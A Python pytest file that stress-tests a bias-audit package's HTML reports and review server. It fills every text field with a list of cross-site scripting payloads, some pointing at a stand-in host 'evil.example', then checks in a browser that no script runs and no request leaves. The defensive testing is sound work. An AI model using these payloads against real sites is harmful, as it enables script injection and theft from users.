"""Every page of a run whose every text is an attack, in a real browser: no script runs, no request leaves."""

from __future__ import annotations

import contextlib
import dataclasses
import re
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from made_run import HUSKY, NAMES, WOLF, Parts, made_parts, picture, put_table, slice_outcomes, slice_rows, write_parts

from bias_audit.checks.outcomes import RuleOutcome
from bias_audit.compare.compared import compare
from bias_audit.compare.history import history
from bias_audit.compare.history_page import page_of as history_page
from bias_audit.compare.page import page_of as compare_page
from bias_audit.report.page import write_report
from bias_audit.review.decisions import Decision, add
from bias_audit.run.identity import finding_id
from bias_audit.run.result import load
from bias_audit.run.schema import TABLES

ATTACKS = (
    "<script>pwn()</script>", "</script><script>pwn()</script>", "</style><style>*{background:url(//evil.example/a)}",
    "<img src=x onerror=pwn()>", "<svg/onload=pwn()>", "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "javascript:pwn()", "<a href='java\tscript:pwn()' autofocus onfocus=pwn()>x</a>", "\" onmouseover=\"pwn()\" x=\"",
    "' onfocus='pwn()' autofocus x='", "`onclick=pwn()`", "<iframe srcdoc='<script>parent.pwn()</script>'>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/b>", "<form action=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example/c'>", "{{ pwn() }}{% raise %}${pwn()}#{pwn()}",
    "<!--<script>", "-->]]>*/pwn()/*", "url(//evil.example/d);}", "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "&lt;script&gt;pwn()&lt;/script&gt;", "\uff1cscript\uff1epwn()", "\u2028pwn()\u2029pwn()//", "\x00<\x00script>",
    "<template><script>pwn()</script></template>", "<math><mi//xlink:href='javascript:pwn()'>", "\u202e\u2066evil",
    "<object data='javascript:pwn()'>", "<video><source onerror=pwn()>", "\";pwn();//", "';pwn();//", "\\\";pwn();//",
)  # fmt: skip

EVIL = " ".join(ATTACKS)

KEPT = re.compile(r"status$|_code$|^(content|measure|kind|mask_kind|region|time|judgement|views|arm|jpeg)$")
"""Columns that hold words of the package."""


def evil(value: Any, key: str = "") -> Any:
    """A part of a run with the attacks behind every text that somebody else may have written."""
    if isinstance(value, dict):
        return {key: evil(item, key) for key, item in value.items()}
    if isinstance(value, list | tuple):
        return type(value)(evil(item, key) for item in value)
    if not isinstance(value, str) or KEPT.search(key) or value in ("", "ok", "done"):
        return value
    return value + EVIL


def numbers(table: str) -> dict[str, float]:
    """A number for every column of a table that holds some."""
    values = {"float": 0.3, "int": 9}
    return {column.name: values[column.kind] for column in TABLES[table] if column.kind in values}


SHOWN = tuple(NAMES[index] for index in (0, 1, 3, 7))
"""Names of the images that are kept of each class: findings and composites name them. More are more of the same."""


def evil_parts() -> Parts:
    parts = made_parts()
    parts.images = [row for row in parts.images if row["status"] != "ok" or row["image_id"].endswith(SHOWN)]
    for row in parts.images:
        row["content"] = f"{abs(hash(row['image_id'])):016x}"[:16]
        row["status_reason"] = row.get("status_reason") or "why"
    parts.slices, parts.outcomes = slice_rows(), (*parts.outcomes, *slice_outcomes())
    cue = {
        "cue_id": "loud", "class_name": HUSKY, "name": "snow", "views": "features", "n": 12, "classes": HUSKY,
        "proof_status": "ok", "n_proof": 20, "erase_effect": 0.3, "paste_effect": 0.5, "judgement": "artefact",
    }  # fmt: skip
    drawn = {"hypothesis_id": "h", "name": "grass", "class_name": HUSKY, "image_id": parts.images[0]["image_id"]}
    drawn |= {
        "reviewer": "Ada",
        "reason": "ok",
        "content": parts.images[0]["content"],
        "paste_effect": 0.3,
        "n_hosts": 9,
    }
    met = {"image_id": "lynx/1.jpg", "group": "lynx", "status": "ok", "predicted": HUSKY, "second": WOLF}
    leak = {
        "kind": "property",
        "name": "brightness",
        "class_name": WOLF,
        "measure": "AUC",
        "value": 0.9,
        "typical": "x",
    }
    copy = {
        "kind": "training copy",
        "name": "a.jpg",
        "class_name": HUSKY,
        "measure": "bits",
        "value": 0,
        "typical": "b",
    }
    property_ = {"class_name": HUSKY, "reason": "no photo", "property": "blur", "name": "blur"}
    parts.leakage = [{**leak, "typical": "dark"}, {**copy, "typical": "b.jpg", "other_label": WOLF}]
    spots = [{"cue_id": "loud", "image_id": parts.images[0]["image_id"], "rank": 1, "x": 0.5, "y": 0.5}]
    parts.outcomes = (
        *parts.outcomes,
        RuleOutcome("BA302", "cue", "cue", "loud", "found", "It moves.", "CONFIRMED", evidence={"class_name": HUSKY}),
        RuleOutcome("BA303", "drawn", "cue", "h", "found", "It moves.", "CONFIRMED", evidence={"class_name": HUSKY}),
        RuleOutcome("BA401", "background", "dataset", "", "found", "AUC.", level="WATCH"),
    )
    assert parts.pictures is not None
    sheet = [{**picture(300 + i), "image_id": "a.jpg", "spot": i} for i in range(2)]
    shot = {**picture(310), "image_id": "a.jpg", "arm": "pasted", "host_id": "b.jpg", "probability": 0.5}
    pictures = parts.pictures
    parts.info = dataclasses.replace(
        parts.info,
        **evil({
            "name": "n", "model": "m", "data": "d", "masks": "m", "version": "9", "layer": "l", "method": "cam",
            "class_names": parts.info.class_names, "notes": ("A note.",), "created": parts.info.created,
            "config": {**parts.info.config, "layer": "l", "preprocess": "p", "group_by": "patient"},
            "seconds": dict(parts.info.seconds),
        }),
    )  # fmt: skip
    parts.info = dataclasses.replace(
        parts.info,
        created="2026-01-02T03:04:05+00:00",
        counts={**parts.info.counts, "strangers": 1},
        statuses={**parts.info.statuses, f"x{EVIL}": {f"y{EVIL}": 3}},
        seconds={f"pass{EVIL}": 1.5},
    )
    for name, rows in {
        "images": parts.images, "classes": parts.classes, "confusion": parts.confusion, "slices": parts.slices,
        "leakage": parts.leakage, "cues": [cue], "cue_spots": spots, "hypotheses": [drawn], "strangers": [met],
        "whole_photo": [property_],
    }.items():  # fmt: skip
        filled = numbers(name) if name in ("cues", "hypotheses", "strangers", "whole_photo", "cue_spots") else {}
        setattr(parts, name, [{**filled, **evil(row)} for row in rows])
    parts.verdict = evil(parts.verdict)
    parts.outcomes = tuple(
        dataclasses.replace(
            each, subject=evil(each.subject), sentence=evil(each.sentence), image_ids=evil(each.image_ids),
            evidence=evil(dict(each.evidence)), title=evil(each.title),
        )
        for each in parts.outcomes
    )  # fmt: skip
    parts.pictures = {
        "images": {evil(name): evil(one) for name, one in pictures["images"].items() if name.endswith(SHOWN)},
        "composites": {evil(name): evil(many) for name, many in pictures["composites"].items()},
        "emptied": {evil(name): evil(many) for name, many in pictures["emptied"].items()},
        "cues": {evil("loud"): {"crops": evil(sheet), "shots": evil([shot])}},
        "strangers": {evil("lynx/1.jpg"): evil(picture(320))},
    }
    return parts


def evil_run(folder: Path) -> Path:
    """The run, with columns of its user, and with decisions about it and about what is gone."""
    run = write_parts(evil_parts(), folder)
    images = pd.read_parquet(run / "images.parquet")
    images[f"camera{EVIL}"] = [f"old{EVIL}"] * len(images)
    put_table(run, "images", images)
    result = load(run)
    who, words = f"Ada{EVIL[:150]}", {"note": EVIL[:900]}
    for place, found in enumerate(result.found()):
        add(run, Decision("finding", finding_id(found, result), "bias", reviewer=f"{who}{place}", **words))
        add(run, Decision("finding", finding_id(found, result), "wrong mask", reviewer=who[:60], **words))
    for part in ("<script>pwn()</script>", "javascript:pwn()", "' onfocus='pwn()' autofocus x='"):
        add(run, Decision("finding", part, "bias", reviewer=part, subject=part, note=part))
    return run


WATCH = """window.pwned = 0; window.pwn = () => { window.pwned += 1; };"""

ALL_CLICKED = """async (rounds) => {
    document.querySelectorAll("details").forEach((fold) => { fold.open = true; });
    for (let round = 0; round < rounds; round += 1) {
        for (const element of [...document.querySelectorAll("body *")]) {
            const link = element.closest("a[href]");
            for (const name of ["mouseover", "mouseenter", "pointerdown", "focus", "focusin", "change", "input"]) {
                element.dispatchEvent(new Event(name, { bubbles: true }));
            }
            if (!link || link.getAttribute("href").startsWith("#")) element.click?.();
        }
        await new Promise((done) => setTimeout(done, 50));
    }
    return document.querySelectorAll("body *").length;
}"""

MADE = """() => {
    const wrong = [];
    const links = ["href", "src", "action", "formaction", "srcdoc", "data", "xlink:href", "background", "poster"];
    for (const element of document.querySelectorAll("*")) {
        if (/^(iframe|base|object|embed|video|math)$/i.test(element.tagName)) wrong.push(element.tagName);
        for (const { name, value } of element.attributes) {
            if (/^on/i.test(name)) wrong.push(`${element.tagName} ${name}`);
            if (links.includes(name) && /evil|^[\\s\\0]*java/i.test(value)) wrong.push(`${element.tagName} ${name}`);
            if (name === "style" && /evil|pwn/.test(value)) wrong.push(`${element.tagName} style`);
        }
    }
    for (const sheet of document.styleSheets) for (const rule of sheet.cssRules) {
        if (rule.cssText.includes("evil.example")) wrong.push("a rule of CSS");
    }
    return wrong;
}"""


class Visit:
    """A page that is opened and clicked all over, and what it did."""

    def __init__(self, browser: Any, url: str, own: Callable[[str], bool], rounds: int = 2) -> None:
        context = browser.new_context(reduced_motion="reduce")
        context.set_default_timeout(120_000)
        context.add_init_script(WATCH)
        self.left: list[str] = []
        self.said: list[str] = []
        context.on("request", lambda asked: own(asked.url) or self.left.append(asked.url))
        page = context.new_page()
        page.on("dialog", lambda dialog: (self.said.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("pageerror", lambda error: self.said.append(f"error {error}"))
        page.on("console", lambda line: "Security Policy" in line.text and self.said.append(line.text))
        page.on("popup", lambda popup: self.left.append(popup.url))
        page.on("framenavigated", lambda frame: own(frame.url) or self.left.append(frame.url))
        page.goto(url)
        self.elements = page.evaluate(ALL_CLICKED, rounds)
        page.wait_for_timeout(500)  # for a request that was about to leave; the review page never stops asking
        self.pwned, self.made = page.evaluate("window.pwned"), page.evaluate(MADE)
        self.text = page.evaluate("document.body.textContent")
        context.close()


def harmless(visit: Visit) -> None:
    assert visit.pwned == 0
    assert visit.left == []
    assert visit.made == []
    assert visit.said == []
    assert visit.elements > 50
    assert "<script>pwn()</script>" in visit.text, "the attacks are shown as text"


def own_file(page: Path) -> Callable[[str], bool]:
    return lambda url: url.startswith(("data:", "blob:")) or url.partition("#")[0] == page.as_uri()


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return evil_run(tmp_path_factory.mktemp("hostile") / "run")


@pytest.fixture(scope="module")
def pages(run: Path) -> dict[str, str]:
    result = load(run)
    report = write_report(run).read_text(encoding="utf-8")
    notebook = f"<!doctype html><meta charset=utf-8><body>{result._repr_html_()}"
    pages = {"report": report, "notebook": notebook}
    pages["compare"] = compare_page(compare(result, result)).decode()
    pages["history"] = history_page(history([run])).decode()
    return pages


@pytest.mark.parametrize("policy", [True, False], ids=["with its policy", "without a policy"])
@pytest.mark.parametrize("name", ["report", "compare", "history", "notebook"])
def test_no_script_runs_and_no_request_leaves(
    browser: Any, pages: dict[str, str], tmp_path: Path, name: str, policy: bool
) -> None:
    """Without its policy only the escaping is left, which the policy might cover up for."""
    text = pages[name]
    if not policy:
        text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
        assert "Content-Security-Policy" not in text
    page = tmp_path / "page.html"
    page.write_text(text, encoding="utf-8", errors="backslashreplace")
    harmless(Visit(browser, page.as_uri(), own_file(page)))


def test_the_review_page_of_a_hostile_run(browser: Any, run: Path) -> None:
    from bias_audit.review.server import bind, create_app, serve

    end, opened = threading.Event(), bind(0)
    origin = f"http://127.0.0.1:{opened.getsockname()[1]}"
    server = threading.Thread(target=serve, args=(create_app(run, "secret", reviewer=EVIL[:150]), opened, end))
    server.start()
    try:
        harmless(
            Visit(browser, f"{origin}/secret/", lambda url: url.startswith((f"{origin}/secret/", "data:", "blob:")))
        )
    finally:
        end.set()
        server.join(60)


@pytest.fixture
def damaged(pages: dict[str, str], tmp_path: Path) -> Path:
    page = tmp_path / "damaged.html"
    text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", pages["report"])
    page.write_text(text.replace("</main>", f"{ATTACKS[0]}{ATTACKS[3]}</main>", 1), encoding="utf-8")
    return page


def test_an_attack_that_gets_through_would_be_noticed(browser: Any, damaged: Path) -> None:
    visit = Visit(browser, damaged.as_uri(), own_file(damaged), rounds=0)
    assert visit.pwned >= 1
    assert visit.left
    with contextlib.suppress(AssertionError):
        harmless(visit)
        pytest.fail("not noticed")
